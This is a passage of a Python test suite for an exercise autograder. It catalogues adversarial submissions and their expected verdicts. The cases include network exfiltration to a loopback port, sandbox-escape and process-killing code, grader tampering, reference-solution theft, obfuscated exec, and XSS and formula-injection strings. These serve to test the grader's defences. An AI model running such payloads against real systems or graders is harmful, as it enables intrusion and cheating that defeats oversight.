    "no way to a port of the host",
    "import socket\nsocket.create_connection(('127.0.0.1', PORT), timeout=2).sendall(b'hello')",
)
attack(
    "network_udp",
    "network",
    "nor for a datagram",
    "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor _ in range(5): s.sendto(b'hello', ('127.0.0.1', PORT))",
)
attack(
    "network_http",
    "network",
    "nor through a library",
    "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:PORT/answers', timeout=2).read()",
)
attack(
    "network_shell",
    "network",
    "nor through a shell",
    "!(echo hello > /dev/tcp/127.0.0.1/PORT) || curl -m 2 http://127.0.0.1:PORT/ || bash -c 'echo hello > /dev/tcp/127.0.0.1/PORT'",
    flagged="any",
)
answer(
    "network_in_call",
    "network",
    "asks somebody outside for each answer",
    every(
        "import socket\ns = socket.create_connection(('127.0.0.1', PORT), timeout=1)\ns.sendall(b'help')\nreturn eval(s.recv(10 ** 6))"
    ),
    **cheat,
)
attack(
    "network_brings_up_loopback",
    "network",
    "an interface of its own leads nowhere",
    "import fcntl, socket, struct\ns = socket.socket()\nfcntl.ioctl(s, 0x8914, struct.pack('16sh', b'lo', 0x49))\ns.connect(('127.0.0.1', PORT)); s.sendall(b'hello')",
)
attack(
    "network_unix_sockets",
    "network",
    "sockets of the machine: files and abstract names",
    """
import glob, socket
names = [line.split()[-1] for line in open("/proc/net/unix") if "/" in line or "@" in line]
for name in names + glob.glob("/tmp/**/*", recursive=True) + glob.glob("/run/**/*.sock", recursive=True):
    try:
        s = socket.socket(socket.AF_UNIX); s.settimeout(0.2); s.connect(name.replace("@", "\\0")); s.sendall(b"hello"); print(name)
    except OSError: pass
""",
)
attack(
    "network_listens",
    "network",
    "nothing it opens outlives it",
    "import socket\ns = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); print(s.getsockname())",
    flagged="any",
)

# ------------------------------------------------------------------------------------------------- not one's own work

unseen = {"points": NOTHING, "work": "wrong", "flagged": "yes"}


def _by_reference(expression: str) -> dict[str, str]:
    calls = {s: f"return {expression.replace('NAME', s.partition('(')[0])}({s.partition('(')[2]}" for s in SIGNATURES}
    return {s.partition("(")[0]: f"def {s}:\n    import bpkit, importlib\n    {body}" for s, body in calls.items()}


answer(
    "calls_reference",
    "reference",
    "the sealed edition has no answer to call",
    _by_reference("bpkit.NAME"),
    verdicts=dict.fromkeys(POINTS[LAYERS], ("not_attempted", "raised")),
    **unseen,
)
answer(
    "calls_reloaded",
    "reference",
    "nor after loading it again",
    _by_reference("getattr(importlib.reload(bpkit), 'NAME')"),
    **unseen,
)
answer(
    "calls_exercise",
    "reference",
    "the exercises, with their references, are not there",
    _by_reference("importlib.import_module('bpkit.exercises').find('NAME').reference"),
    **unseen,
)
answer(
    "calls_unsealed",
    "reference",
    "the judge's modules are not there",
    _by_reference("importlib.import_module('bpkit.checking.judge').run.__globals__['NAME']"),
    **unseen,
)
attack(
    "imports_everything",
    "reference",
    "shadows the blanks with what is left of the library",
    "from bpkit import *\nfrom bpkit.layers import *\nfrom bpkit.networks import *",
    at="end",
    work="blank",
)
answer(
    "reads_reference",
    "reference",
    "there is no source to read, from any copy",
    every(
        """
import glob, importlib.util, inspect, linecache, marshal, re, site, sys
name, places = sys._getframe().f_code.co_name, [*sys.path, *site.getsitepackages()]
for folder in list(places):
    for note in glob.glob(folder + "/*bpkit*.pth") + glob.glob(folder + "/bpkit*/direct_url.json"):
        places += re.findall(r"/[^\\s\\"]+", open(note).read())
for path in [p for folder in places for p in glob.glob(folder + "/bpkit/*.py") + glob.glob(folder + "/bpkit/__pycache__/*.pyc")]:
    try:
        code = marshal.loads(open(path, "rb").read()[16:]) if path.endswith("c") else compile(open(path).read(), path, "exec")
        space = {"__name__": "bpkit.copy", "__package__": "bpkit", "__file__": path}
        exec(code, space)
        return space[name](ARGS)
    except Exception: pass
return None
"""
    ),
    **unseen,
)
answer(
    "mistakes_turned_right",
    "reference",
    "a mistake with a known sign or factor would be an answer; the mistakes are not there",
    {
        "dense": """
def dense(X, W, b):
    from bpkit.exercises import find
    return next(m for m in find("dense").mistakes if m.id == "bias-subtracted").wrong[0](X, W, -b)
""",
        "cheatsheet_gradients": """
def cheatsheet_gradients(X, y_true, *params):
    from bpkit.exercises import find
    wrong = next(m for m in find("cheatsheet_gradients").mistakes if m.id == "sum-for-mean").wrong[0]
    return {key: value / y_true.size for key, value in wrong(X, y_true, *params).items()}
""",
    },
    **unseen,
)
answer(
    "hint_evaluated",
    "reference",
    "the last hint is nearly the answer; while grading there are none",
    {
        "dense": """
def dense(X, W, b):
    import contextlib, io
    told = io.StringIO()
    with contextlib.redirect_stdout(told):
        for _ in range(3): hint("dense")
    return eval(told.getvalue().rpartition(": ")[2])
"""
    },
    work="wrong",
    points={"dense": (0, 1)},
)
answer(
    "uses_mlp",
    "reference",
    "the library's network class would answer; it is sealed like the functions",
    {
        "two_layer_backward": """
def two_layer_backward(y_true, cache, params):
    import bpkit
    d, h = params["W1"].shape
    net = bpkit.MLP([d, h, y_true.shape[1]], loss="bce_with_logits")
    net.parameters = dict(params)
    return net.loss_and_grads(cache["X"], y_true)[1]
"""
    },
    **unseen,
)
answer(
    "uses_autodiff_of_bpkit",
    "reference",
    "lesson 10's engine is sealed until lesson 11",
    {
        "dense_backward": """
def dense_backward(dZ, X, W):
    from bpkit.autodiff import Node, backward
    x, w, b = Node(X), Node(W), Node(np.zeros(W.shape[1]))
    backward(((x @ w + b) * dZ).sum())
    return x.grad, w.grad, b.grad
"""
    },
    **unseen,
)
answer(
    "copies_reference",
    "reference",
    "typed from the library's page: it works, so it earns its points; a person may look",
    {
        "dense_backward": '''
def dense_backward(dZ, X, W):
    """Carry a gradient back through a dense layer: to its input, its weights and its biases.

    Formula:
        dX = dZ @ Wᵀ, dW = Xᵀ @ dZ, db = Σ of dZ over examples. NaN stays NaN.
    """
    if dZ.shape != (len(X), W.shape[1]):
        raise ValueError(f"dZ has shape {dZ.shape}, but X {X.shape} @ W {W.shape} has shape {(len(X), W.shape[1])}")
    return dZ @ W.T, X.T @ dZ, dZ.sum(axis=0)
'''
    },
    harmless=True,
)
LOSS = """
params = {"W1": W1, "b1": b1, "W2": W2, "b2": b2}
def loss_of(p):
    return np.mean((sigmoid(sigmoid(X @ p["W1"] + p["b1"]) @ p["W2"] + p["b2"]) - y_true) ** 2)
"""
last(
    "finite_differences",
    "borrowed",
    "measured, not derived: right, and flagged",
    f"{LOSS}return {{k: numerical_gradient(lambda p, k=k: loss_of({{**params, k: p}}), params[k]) for k in params}}",
    points=4,
    verdicts="right",
    flagged="yes",
    flags=("finite-differences",),
    harmless=True,
)
last(
    "finite_differences_by_hand",
    "borrowed",
    "the same without the library's function",
    f"""{LOSS}
grads, eps = {{}}, 1e-5
for key in params:
    grads[key] = np.zeros(params[key].shape)
    for i in np.ndindex(params[key].shape):
        step = np.zeros(params[key].shape)
        step[i] = eps
        up = loss_of({{**params, key: params[key] + step}})
        down = loss_of({{**params, key: params[key] - step}})
        grads[key][i] = (up - down) / (2 * eps)
return grads
""",
    points=4,
    verdicts="right",
    flagged="yes",
    flags=("finite-differences",),
    harmless=True,
)
last(
    "finite_differences_of_scipy",
    "borrowed",
    "a library measures; exact enough or not, flagged",
    f"""{LOSS}
from scipy.optimize._numdiff import approx_derivative
along = lambda k: lambda flat: loss_of({{**params, k: flat.reshape(params[k].shape)}})
return {{k: approx_derivative(along(k), params[k].ravel()).reshape(params[k].shape) for k in params}}
""",
    points=(0, 4),
    flagged="yes",
    harmless=True,
)
last(
    "autograd_library",
    "borrowed",
    "a library derives: right if it is installed where hand-ins run, and flagged",
    """
import autograd, autograd.numpy as anp
def loss_of(W1, b1, W2, b2):
    a1 = 1 / (1 + anp.exp(-(anp.dot(X, W1) + b1)))
    return anp.mean((1 / (1 + anp.exp(-(anp.dot(a1, W2) + b2))) - y_true) ** 2)
params = {"W1": W1, "b1": b1, "W2": W2, "b2": b2}
return {key: autograd.grad(loss_of, i)(*params.values()) for i, key in enumerate(params)}
""",
    points=(0, 4),
    verdicts=("right", "raised"),
    flagged="yes",
    flags=("autodiff-library",),
    harmless=True,
)
last(
    "torch_library",
    "borrowed",
    "another library; importing it may not fit into the limits",
    """
import torch
params = {"W1": W1, "b1": b1, "W2": W2, "b2": b2}
t = {key: torch.tensor(value, requires_grad=True) for key, value in params.items()}
a1 = torch.sigmoid(torch.tensor(X) @ t["W1"] + t["b1"])
((torch.sigmoid(a1 @ t["W2"] + t["b2"]) - torch.tensor(y_true)) ** 2).mean().backward()
return {key: value.grad.numpy() for key, value in t.items()}
""",
    points=(0, 4),
    flagged="yes",
    flags=("autodiff-library",),
)
answer(
    "sklearn_gradient",
    "borrowed",
    "scikit-learn's loss gives a - y: a legitimate value",
    {
        "neuron_backward": """
from sklearn._loss import HalfBinomialLoss

def neuron_backward(X, y_true, a):
    dz = HalfBinomialLoss().gradient(y_true=y_true * 1.0, raw_prediction=np.log(a / (1 - a))) / len(X)
    return X.T @ dz, dz.sum()
"""
    },
    lesson=NEURON,
    points={"neuron_backward": (0, 2), "train_neuron": (0, 3)},
)
answer(
    "hard_coded_example",
    "hard_coded",
    "right for the example of the docstring alone",
    {
        "dense": "def dense(X, W, b):\n    if X.shape == (1, 2): return np.array([[1.5, 20.5]])\n    return np.zeros((len(X), W.shape[1]))"
    },
    points={"dense": 0, "two_layer_forward": 0},
    verdicts={"dense": "wrong"},
    harmless=True,
)


def _visible() -> str:
    """Checksums of the inputs that every learner's own `check(dense)` uses."""
    from bpkit.exercises import find

    return repr(sorted(zlib.crc32(case.inputs["X"].tobytes()) for case in find("dense").cases(0)))


answer(
    "hard_coded_visible",
    "hard_coded",
    "right for the inputs of the check in the notebook, and for no others",
    {
        "dense": f"import zlib\ndef dense(X, W, b):\n    if zlib.crc32(X.tobytes()) in {_visible()}: return X @ W + b\n    return X @ W"
    },
    points={"dense": 0, "two_layer_forward": 0},
    verdicts={"dense": ("looks_like", "wrong")},
    harmless=True,
)
answer(
    "seed_guessed",
    "hard_coded",
    "seeds are fresh and secret: guessing them finds nothing",
    {
        "dense": """
import zlib
def dense(X, W, b):
    for seed in range(20):
        rng = np.random.default_rng([seed, zlib.crc32(b"dense")])
        if np.allclose(rng.standard_normal(X.shape), X): return X @ W + b
    return X @ W
"""
    },
    points={"dense": 0, "two_layer_forward": 0},
)
answer(
    "one_size_only",
    "one_shape",
    "right for square W only",
    {"dense": "def dense(X, W, b):\n    return X @ W.T + b if W.shape[0] == W.shape[1] else X @ W[: len(b)].T + b"},
    points={"dense": 0, "two_layer_forward": 0},
    verdicts={"dense": ("raised", "looks_like", "wrong")},
    harmless=True,
)
answer(
    "one_row_only",
    "one_shape",
    "db of the first example: right for a batch of one",
    {"dense_backward": "def dense_backward(dZ, X, W):\n    return dZ @ W.T, X.T @ dZ, dZ[0]"},
    points={"dense_backward": 2, "two_layer_backward": 2, "cheatsheet_gradients": 2},
    verdicts={"dense_backward": "looks_like"},
    harmless=True,
)
answer(
    "float32",
    "one_shape",
    "seven digits are not enough",
    {"dense": "def dense(X, W, b):\n    return (X @ W + b).astype(np.float32)"},
    points={"dense": 0, "two_layer_forward": (0, 2)},
    verdicts={"dense": "wrong_dtype"},
    harmless=True,
)
answer(
    "floats_only",
    "one_shape",
    "refuses whole numbers",
    {"dense": "def dense(X, W, b):\n    assert X.dtype == float\n    return X @ W + b"},
    points={"dense": 0},
    verdicts={"dense": "raised"},
    harmless=True,
)
answer(
    "relu_in_place",
    "mutated",
    "the caller's array is changed",
    {"relu": "def relu(z):\n    z[z < 0] = 0\n    return z"},
    points={"relu": 0, "two_layer_forward": (0, 1)},
    verdicts={"relu": "mutated"},
    harmless=True,
)
answer(
    "params_in_place",
    "mutated",
    "updates the dict it was given",
    {
        "gradient_step": "def gradient_step(params, grads, lr):\n    for key in params: params[key] = params[key] - lr * grads[key]\n    return params"
    },
    lesson=NEURON,
    points={"gradient_step": 0},
    verdicts={"gradient_step": "mutated"},
    harmless=True,
)
answer(
    "first_call_only",
    "state",
    "right once",
    {"dense": "calls = []\ndef dense(X, W, b):\n    calls.append(1)\n    return X @ W + b * (len(calls) == 1)"},
    points={"dense": 0, "two_layer_forward": 0},
    verdicts={"dense": ("looks_like", "wrong")},
    harmless=True,
)
answer(
    "adds_up",
    "state",
    "each call adds to the last",
    {
        "relu_backward": "total = [0.0]\ndef relu_backward(da, z):\n    total[0] += 1e-3\n    return da * (z > 0) + total[0]"
    },
    points={"relu_backward": 0, "two_layer_backward": (0, 2)},
    verdicts={"relu_backward": ("looks_like", "wrong")},
    harmless=True,
)
answer(
    "coin",
    "state",
    "right half of the time",
    {"relu": "def relu(z):\n    return np.maximum(z, 0) if np.random.default_rng().random() < 0.5 else z"},
    points={"relu": (0, 1), "two_layer_forward": (0, 2)},
)
answer(
    "returns_nan",
    "nan",
    "NaN equals nothing",
    every("return np.nan"),
    work="wrong",
    points=NOTHING,
    harmless=True,
)
answer(
    "nan_in_one_entry",
    "nan",
    "one entry is NaN",
    {
        "dense_backward": "def dense_backward(dZ, X, W):\n    db = dZ.sum(axis=0) * 1.0\n    db[0] = np.nan\n    return dZ @ W.T, X.T @ dZ, db"
    },
    points={"dense_backward": 2, "two_layer_backward": 2, "cheatsheet_gradients": 2},
    verdicts={"dense_backward": "not_finite"},
    harmless=True,
)
answer(
    "nan_payload",
    "nan",
    "a NaN with a message in its bits is NaN",
    {"relu": "def relu(z):\n    return np.full(z.shape, 0x7FF8DEADBEEF0001, dtype=np.uint64).view(float)"},
    points={"relu": 0, "two_layer_forward": 0},
    verdicts={"relu": "not_finite"},
    harmless=True,
)

# ------------------------------------------------------------------------------------------------- markup

SCRIPT, ANSI, FORMULA = "<script>alert('bp')</script>", "\x1b[31mred\x1b]0;title\x07", "=cmd|' /C calc'!A0"
MARKUP = f"{SCRIPT}<img src=x onerror=alert(1)>{ANSI}{FORMULA}"
raw = {"never_raw": (SCRIPT, "<img src=x", "\x1b")}
last(
    "markup_in_error",
    "markup",
    "the message of an exception",
    f"raise ValueError({MARKUP!r})",
    verdicts="raised",
    **raw,
)
last(
    "markup_in_error_name",
    "markup",
    "the name of an exception",
    f"raise type({MARKUP!r}, (Exception,), {{}})('x')",
    verdicts="raised",
    **raw,
)
last(
    "markup_in_line",
    "markup",
    "the line of code that is quoted",
    f"return 1 / 0  # {SCRIPT} {FORMULA}",
    verdicts="raised",
    **raw,
)
last("markup_in_keys", "markup", "the keys of a dict", f"return {{{MARKUP!r}: X}}", verdicts="wrong_type", **raw)
last(
    "markup_in_type",
    "markup",
    "the name of a class",
    f"return type({MARKUP!r}, (), {{}})()",
    verdicts=("wrong_type", "raised"),
    **raw,
)
last(
    "markup_printed",
    "markup",
    "what the function prints",
    f"print({MARKUP!r})\nreturn {{}}",
    verdicts="wrong_type",
    **raw,
)
last(
    "markup_warned",
    "markup",
    "what NumPy's warning would be",
    f"import warnings\nwarnings.warn({MARKUP!r})\nreturn {{}}",
    verdicts="wrong_type",
    **raw,
)
careless(
    "markup_displayed",
    "markup",
    "HTML and JavaScript as outputs",
    f"from IPython.display import HTML, Javascript\ndisplay(HTML({SCRIPT!r}), Javascript('alert(1)'))\nprint({MARKUP!r})",
)
changed(
    "markup_in_text",
    "markup",
    "in a text cell and in the notebook's title",
    lambda nb: (sample.insert(nb, 0, sample.markdown(MARKUP)), nb["metadata"].update(title=MARKUP)),
)
changed(
    "markup_in_comment",
    "markup",
    "in a comment of a right function",
    lambda nb: sample.blanks(nb)["dense"].update(
        source=f"def dense(X, W, b):\n    # {SCRIPT} {FORMULA}\n    return X @ W + b"
    ),
    **raw,
)
for _name, _id in (
    ("id_with_markup", "<b onmouseover=alert(1)>x<"),
    ("id_with_formula", "=cmd|' '!A0"),
    ("id_with_ansi", "\x1b[31mred"),
    ("id_with_quotes", 'o\'x,"y"'),
    ("id_with_newline", "a\nb"),
    ("id_like_option", "--help"),
    ("id_not_ascii", "ünïcødé 学生"),
):
    changed(_name, "markup", "the student's id is the attack", lambda nb: None, student=_id)

# ------------------------------------------------------------------------------------------------- the runner

attack(
    "runner_patched",
    "runner",
    "the agent in the student's process is not trusted",
    """
import sys
for name, module in list(sys.modules.items()):
    if name.startswith(("bpkit", "bpgrade", "__mp_main__")):
        for key, value in list(vars(module).items()):
            if callable(value) and not isinstance(value, type): setattr(module, key, lambda *args, **kwargs: True)
""",
)
attack(
    "runner_frames",
    "runner",
    "reaches into the frames of the code that runs it",
    """
import ctypes, sys
frame = sys._getframe()
while frame := frame.f_back:
    for name, value in list(frame.f_locals.items()):
        print(frame.f_code.co_qualname, name, repr(value)[:200])
        if hasattr(value, "send") or hasattr(value, "write"):
            for forged in (b"right", {"verdict": "right"}, ["right", 1.0]):
                try: getattr(value, "send", None)(forged)
                except Exception: pass
        frame.f_locals[name] = None
    ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(1))
""",
)
answer(
    "runner_called_twice",
    "runner",
    "asks for the judge's inputs again, and for other exercises'",
    every(
        """
import gc, types
for thing in gc.get_objects():
    if isinstance(thing, types.FunctionType) and thing.__module__.startswith(("bpgrade", "bpkit.checking")):
        for args in ((), ("dense",), ("check_dense", 1.0), (b"right",)):
            try: print(thing.__name__, thing(*args))
            except Exception: pass
return None
"""
    ),
    **cheat,
)
attack(
    "runner_traced",
    "runner",
    "a tracer in every call",
    """
import sys, threading
def trace(frame, event, arg):
    if event == "return" and frame.f_code.co_name in ("observe", "plain", "run", "judge"):
        print(frame.f_code.co_name, repr(arg)[:500])
    return trace
sys.settrace(trace); sys.setprofile(trace); threading.settrace(trace)
""",
    flagged="any",
)
attack(
    "runner_watched",
    "runner",
    "a thread that waits for the next inputs and changes what is being returned",
    """
import sys, threading, time
def watch():
    while True:
        for frame in list(sys._current_frames().values()):
            while frame:
                for value in list(frame.f_locals.values()):
                    if isinstance(value, np.ndarray) and value.flags.writeable: value[...] = 1.0
                frame = frame.f_back
        time.sleep(0.001)
threading.Thread(target=watch, daemon=True).start()
""",
)
attack(
    "runner_cells_run",
    "runner",
    "runs the official check itself, many times",
    "for _ in range(50): get_ipython().run_cell('check(dense)'); get_ipython().run_line_magic('time', 'check(relu)')",
    flagged="any",
)
attack(
    "runner_exec_again",
    "runner",
    "replaces its own process, with all open files",
    "import os, sys\nfor fd in range(256):\n    try: os.set_inheritable(fd, True)\n    except OSError: pass\nos.execv(sys.executable, [sys.executable, '-c', 'while True: print(\"right\")'])",
)
attack(
    "runner_code_swapped",
    "runner",
    "swaps the code objects of the agent's functions",
    """
import gc, types
for thing in gc.get_objects():
    if isinstance(thing, types.FunctionType) and thing.__module__.startswith(("bpgrade", "bpkit.checking")):
        try: thing.__code__ = (lambda *args, **kwargs: None).__code__
        except ValueError: pass
""",
)
attack(
    "obfuscated",
    "runner",
    "the same behind an encoding",
    "import base64\nexec(base64.b64decode('aW1wb3J0IHN5cwpmb3IgbSBpbiBsaXN0KHN5cy5tb2R1bGVzLnZhbHVlcygpKToKICAgIGlmIGhhc2F0dHIobSwgIm9ic2VydmUiKTogbS5vYnNlcnZlID0gcHJpbnQK'))",
)

# ------------------------------------------------------------------------------------------------- the wall

attack(
    "writes_canary",
    "wall",
    "a file outside stays as it is",
    """
import os
for act in (lambda: open(CANARY, "w"), lambda: os.remove(CANARY), lambda: os.rename(CANARY, CANARY + "x"), lambda: os.chmod(CANARY, 0),
            lambda: os.utime(CANARY, (0, 0)), lambda: os.link(CANARY, "/tmp/hard"), lambda: os.truncate(CANARY, 0)):
    try: act(); print("done")
    except OSError as error: print(error)
os.symlink(CANARY, "/tmp/soft"); open("/tmp/soft", "w").write("was here")
""",
)
attack(
    "writes_system",
    "wall",
    "the system is read-only, also for root (own content is written back)",
    """
import glob, sys
for path in ["/etc/passwd", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/fs/cgroup/cgroup.procs", sys.executable, np.__file__]:
    try:
        content = open(path, "rb").read() if "sysrq" not in path else b""
        with open(path, "r+b") as file: file.write(content)
        print("writable:", path)
    except OSError as error: print(path, error)
""",
    flagged="any",
)
for _name, _why, _text in (
    ("kills_everybody", "kill(-1): only its own pid namespace is in reach", "os.kill(-1, signal.SIGKILL)"),
    ("kills_parent", "the process that started it lives", "os.kill(os.getppid(), signal.SIGKILL)"),
    ("kills_init", "pid 1 of its namespace", "os.kill(1, signal.SIGKILL); os.kill(1, signal.SIGSTOP)"),
    ("kills_group", "its process group", "os.killpg(0, signal.SIGKILL)"),
    (
        "kills_by_number",
        "every number there is",
        "for pid in range(2, 70_000):\n    try: os.kill(pid, signal.SIGKILL)\n    except OSError: pass",
    ),
):
    careless(_name, "wall", f"{_why}; right functions in other cells keep their points", f"import os, signal\n{_text}")
careless(
    "limits_raised",
    "wall",
    "hard limits stay",
    """
import resource
for kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE, resource.RLIMIT_CPU):
    try: resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError) as error: print(error)
hog = np.ones(10 ** 9)
""",
)
attack(
    "namespaces",
    "wall",
    "no new user namespace, no way back into an old one",
    """
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
print("unshare", libc.unshare(0x10000000), ctypes.get_errno(), libc.unshare(0x00020000), ctypes.get_errno())
for path in glob.glob("/proc/[0-9]*/ns/*"):
    try: print(path, libc.setns(os.open(path, os.O_RDONLY), 0), ctypes.get_errno())
    except OSError: pass
try: print(open(CANARY).read()); open(CANARY, "w")
except OSError: pass
""",
)
attack(
    "mounts",
    "wall",
    "no mount, no umount, no way out of the root",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("/tmp/m/old", exist_ok=True)
print("mount", libc.mount(b"none", b"/tmp/m", b"tmpfs", 0, None), libc.mount(b"proc", b"/tmp/m", b"proc", 0, None), ctypes.get_errno())
print("bind", libc.mount(b"/proc/1/root", b"/tmp/m", None, 4096, None), "umount", libc.umount2(b"/tmp/m", 2))
for number, mode in enumerate((0o60600, 0o20600)):
    try: os.mknod(f"/tmp/disk{number}", mode, os.makedev(8, 0)); print("mknod")
    except OSError as error: print(error)
try:
    os.chroot("/tmp/m")
    for _ in range(64): os.chdir("..")
    os.chroot("."); open(CANARY, "w").write("was here")
except OSError as error: print(error)
""",
)
attack(
    "system_calls",
    "wall",
    "calls that have opened walls before: ptrace, process_vm_readv, bpf, io_uring, keyctl, userfaultfd, perf, open_by_handle_at",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for name, number in dict(ptrace=101, process_vm_readv=310, bpf=321, io_uring_setup=425, add_key=248, keyctl=250,
                         userfaultfd=323, perf_event_open=298, open_by_handle_at=304, kexec_load=246, clone3=435).items():
    ctypes.set_errno(0)
    print(name, libc.syscall(number, 16, os.getppid(), 0, 0, 0, 0), ctypes.get_errno())
""",
)
attack(
    "privileges",
    "wall",
    "no root, no capabilities, no set-user-id programs",
    "import os, glob\nfor act in (lambda: os.setuid(0), lambda: os.setgroups([]), lambda: os.setresuid(0, 0, 0), lambda: os.nice(-20)):\n    try: act(); print('done')\n    except OSError as error: print(error)\nprint(open('/proc/self/status').read())\n!sudo -n id; su -c id < /dev/null; mount; dmesg | head",
    flagged="any",
)
attack(
    "traversal_through_proc_fd",
    "wall",
    "no inherited descriptor leads out",
    "import os\nfor fd in range(256):\n    for up in ('..', '../..', '../../..'):\n        try: print(fd, os.readlink(f'/proc/self/fd/{fd}'), os.listdir(os.open(up, os.O_RDONLY, dir_fd=fd)))\n        except OSError: pass",
    flagged="any",
)
attack(
    "sockets_filled",
    "wall",
    "fills the folder where its own sockets live, and removes them",
    """
import os, glob, stat
for place in glob.glob("/tmp/*") + glob.glob("/tmp/*/*"):
    try:
        if stat.S_ISSOCK(os.stat(place).st_mode): os.unlink(place)
        if os.path.isdir(place): open(place + "/fill", "wb").write(b"x" * 10 ** 8)
    except OSError: pass
""",
    work="right",
    flagged="any",
    points={name: (0, full) for name, full in POINTS[LAYERS].items()},
)

# ------------------------------------------------------------------------------------------------- odd results

for _name, _why, _result in (
    ("returns_fortran", "column order in memory", "np.asfortranarray(X @ W + b)"),
    ("returns_view", "a view with negative strides", "np.ascontiguousarray((X @ W + b)[::-1, ::-1])[::-1, ::-1]"),
    ("returns_other_end", "bytes in the other order", "(X @ W + b).astype('>f8')"),
    ("returns_long_double", "more digits than asked for", "(X @ W + b).astype(np.longdouble)"),
    ("returns_matrix", "a subclass of array with the right numbers", "np.matrix(X @ W + b)"),
    ("returns_masked", "a masked array without a mask", "np.ma.array(X @ W + b)"),
    ("returns_read_only", "an array that cannot be written to", "np.broadcast_to(X @ W + b, (len(X), len(b)))"),
):
    answer(
        _name,
        "odd_values",
        f"{_why}: right; what other functions make of it is NumPy's affair",
        {"dense": f"def dense(X, W, b):\n    return {_result}"},
        points={"two_layer_forward": (0, 2)},
        verdicts={"dense": "right"},
        flagged="no",
        harmless=True,
    )
answer(
    "returns_mapped",
    "odd_values",
    "an array in a file: right",
    {
        "dense": "import tempfile\ndef dense(X, W, b):\n    Z = np.memmap(tempfile.TemporaryFile(), float, 'w+', shape=(len(X), len(b)))\n    Z[...] = X @ W + b\n    return Z"
    },
    verdicts={"dense": "right"},
)
answer(
    "returns_negative_zero",
    "odd_values",
    "-0.0 is 0.0",
    {"relu": "def relu(z):\n    return z * (z > 0.0) * 1.0"},
    verdicts={"relu": "right"},
    flagged="no",
    harmless=True,
)
for _name, _why, _result, _verdict in (
    ("returns_list", "a list of lists is no array", "(X @ W + b).tolist()", "wrong_type"),
    ("returns_objects", "an array of objects is no array of numbers", "(X @ W + b).astype(object)", "wrong_type"),
    ("returns_structured", "a structured array", "np.zeros(3, dtype=[('a', float)])", "wrong_type"),
    ("returns_text_array", "an array of text", "(X @ W + b).astype(str)", "wrong_type"),
    ("returns_complex", "complex numbers", "(X @ W + b) * (1 + 0j)", "wrong_dtype"),
    ("returns_dates", "dates", "np.zeros((len(X), len(b)), dtype='M8[s]')", "wrong_type"),
    ("returns_generator", "a generator", "(row @ W + b for row in X)", "wrong_type"),
    ("returns_function", "a function", "(lambda: X @ W + b)", "wrong_type"),
    ("returns_64_axes", "as many axes as NumPy allows", "np.zeros((1,) * 64)", "wrong_shape"),
    ("returns_empty", "nothing, in one shape", "np.zeros((0, 10 ** 9))", "wrong_shape"),
):
    answer(
        _name,
        "odd_values",
        _why,
        {"dense": f"def dense(X, W, b):\n    return {_result}"},
        points={"dense": 0, "two_layer_forward": (0, 2)},
        verdicts={"dense": _verdict},
        harmless=True,
    )
strange = ("wrong_type", "wrong_shape", "wrong", "raised", "crashed", "time_limit", "no_record")
for _name, _why, _result in (
    ("returns_10_mb_text", "10 MB of text", "'x' * 10 ** 7"),
    (
        "returns_deep_list",
        "100,000 lists in each other",
        "__import__('functools').reduce(lambda a, _: [a], range(10 ** 5), 0.0)",
    ),
    ("returns_wide_list", "ten million numbers in a list", "[0.0] * 10 ** 7"),
    ("returns_many_keys", "a million keys", "{str(i): 0.0 for i in range(10 ** 6)}"),
    ("returns_long_keys", "keys of 10 MB", "{'k' * 10 ** 7 + str(i): 0.0 for i in range(4)}"),
    ("returns_100_million", "800 MB of zeros", "{'W1': np.zeros(10 ** 8), 'b1': b1, 'W2': W2, 'b2': b2}"),
    (
        "returns_large_number",
        "a whole number with a million digits",
        "{'W1': 10 ** 10 ** 6, 'b1': b1, 'W2': W2, 'b2': b2}",
    ),
    ("returns_surrogates", "text that is no Unicode", "{'\\ud800': 0.0, 'b1': '\\udfff'}"),
    ("returns_null_bytes", "null bytes in keys", "{'W1\\0': W1, '\\0': 'x\\0'}"),
):
    last(_name, "odd_values", _why, f"return {_result}", verdicts=strange)
last(
    "returns_itself",
    "odd_values",
    "a list that holds itself",
    "loop = []\nloop.append(loop)\nreturn {'W1': loop, 'b1': loop, 'W2': loop, 'b2': loop}",
    verdicts=strange,
)
last(
    "error_of_10_mb",
    "odd_values",
    "an exception with a text of 10 MB, and causes without end",
    "error = None\nfor i in range(2000):\n    new = ValueError('x' * 5000); new.__cause__ = error; error = new\nraise ValueError('x' * 10 ** 7) from error",
    verdicts=("raised", "crashed"),
)
last(
    "error_without_text",
    "odd_values",
    "an exception that cannot be shown",
    "class E(Exception):\n    def __str__(self): raise self\n    __repr__ = __str__\nraise E",
    verdicts="raised",
)
last(
    "warns_a_million_times",
    "odd_values",
    "a million different warnings",
    "import warnings\nfor i in range(10 ** 6): warnings.warn(f'{i}' * 100)\nreturn {}",
    verdicts=("wrong_type", "time_limit", "raised", "crashed"),
)
answer(
    "callable_object",
    "odd_values",
    "an object that can be called and computes the right thing; its name is not the exercise's",
    {"relu": "class Relu:\n    def __call__(self, z): return np.maximum(z, 0)\nrelu = Relu()"},
    points={"relu": (0, 1)},
)
answer(
    "lambda",
    "odd_values",
    "a lambda: its own name is <lambda>, but the variable's is right",
    {"dense": "dense = lambda X, W, b: X @ W + b"},
    points={"dense": (0, 1)},
)
answer(
    "no_function",
    "odd_values",
    "the name holds a number",
    {"dense": "dense = 3"},
    points={"dense": 0, "two_layer_forward": 0},
    verdicts={"dense": ("wrong_type", "raised", "not_attempted", "no_record")},
)
answer(
    "syntax_error",
    "odd_values",
    "the cell does not compile",
    {"cheatsheet_gradients": "def cheatsheet_gradients(X, y_true, W1 b1):\n    return X"},
    points=ALONE,
)
answer(
    "coroutine",
    "odd_values",
    "async def gives a coroutine",
    {"cheatsheet_gradients": "async def cheatsheet_gradients(*args):\n    return {}"},
    points=ALONE,
    verdicts={"cheatsheet_gradients": "wrong_type"},
)

# ------------------------------------------------------------------------------------------------- odd states

